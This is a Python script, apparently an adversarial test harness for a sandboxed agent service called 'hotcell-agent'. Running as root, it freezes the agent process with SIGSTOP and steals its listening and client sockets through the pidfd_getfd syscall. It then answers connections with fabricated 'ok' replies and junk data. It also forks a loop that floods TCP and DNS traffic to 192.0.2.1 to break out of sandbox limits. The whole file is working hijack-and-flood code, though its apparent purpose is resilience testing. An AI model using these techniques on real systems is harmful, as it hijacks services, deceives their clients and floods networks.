"""evil_agent.py - takes the agent's place. A program for root inside a sandbox, beside lies.py:

    sudo python3 evil_agent.py          every connection is lied to, and others are made without end
    sudo python3 evil_agent.py silent   every connection is accepted, and that is all

Either answers at READY_PORT once it has taken over.

The agent is stopped, so that it is not started again, and its sockets are taken from it: the doors at which it listens,
and the connections that the gateway keeps to it.
"""

import asyncio
import contextlib
import ctypes
import glob
import logging
import os
import signal
import socket
import sys
import time

from lies import JUNK, SAID, serve_asked

PIDFD_GETFD = 438
READY_PORT = 8098


def find_agent():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with open(path, "rb") as f:
            if f.read().startswith(b"hotcell-agent\0--serve"):
                return int(path.split("/")[2])
    raise SystemExit("no agent")


def take_sockets(pid):
    libc, pidfd = ctypes.CDLL(None, use_errno=True), os.pidfd_open(pid)
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
            got = libc.syscall(PIDFD_GETFD, pidfd, int(fd), 0)
            if got < 0:
                raise OSError(ctypes.get_errno(), "pidfd_getfd")
            yield socket.socket(fileno=got)


def is_door(s):
    return s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) != 0


def is_connection(s):
    return s.family in (socket.AF_INET, socket.AF_INET6) and not is_door(s)


async def serve_nothing(reader, writer):
    await asyncio.Event().wait()


async def serve_at(doors, how):
    for door in doors:
        await asyncio.start_server(how, sock=door, backlog=1024)
    await asyncio.start_server(serve_asked, "0.0.0.0", READY_PORT)
    await asyncio.Event().wait()


def flood():
    """Out of the sandbox, more than it may."""
    if os.fork() > 0:
        return
    names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        with contextlib.suppress(OSError), socket.socket() as s:
            s.setblocking(False)
            s.connect_ex(("192.0.2.1", 80))
            names.sendto(JUNK[:40], ("192.0.2.1", 53))
        time.sleep(0.001)  # and time is left for lies


def main():
    agent = find_agent()
    os.kill(agent, signal.SIGSTOP)
    taken = list(take_sockets(agent))
    doors = [s for s in taken if is_door(s) and s.family == socket.AF_INET]
    logging.disable(logging.WARNING)  # of writes to clients that left
    if sys.argv[1:] == ["silent"]:
        asyncio.run(serve_at(doors, serve_nothing))
    for s in filter(is_connection, taken):  # nobody has asked anything there
        s.send(SAID["ok"] + JUNK[:100])
    flood()
    asyncio.run(serve_at(doors, serve_asked))


if __name__ == "__main__":
    main()
